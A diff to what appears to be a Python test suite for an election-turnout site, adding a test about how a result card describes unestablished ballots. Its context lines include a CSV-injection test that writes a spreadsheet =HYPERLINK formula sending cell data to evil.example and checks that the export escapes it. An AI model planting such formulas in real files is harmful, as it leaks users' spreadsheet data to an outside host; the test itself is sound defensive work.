@@ -187,3 +187,9 @@ def test_a_formula_typed_into_a_region_name_reaches_the_csv_as_text(client, seed
     Region.objects.filter(slug="abai").update(name_en='=HYPERLINK("https://evil.example/?"&A1,"Official")')
     rows = list(csv.reader(io.StringIO(client.get("/en/turnout/regions.csv").content.decode("utf-8-sig"))))
     assert rows[1][0].startswith("'=HYPERLINK")
+
+
+def test_the_card_says_of_the_unestablished_ballots_only_what_the_announcement_says(client, seeded):
+    card = page(client, "/en/").select_one(".result-card").get_text(" ", strip=True)
+    assert "counted these ballots separately from the invalid ones" in card
+    assert "neither valid nor invalid" not in card
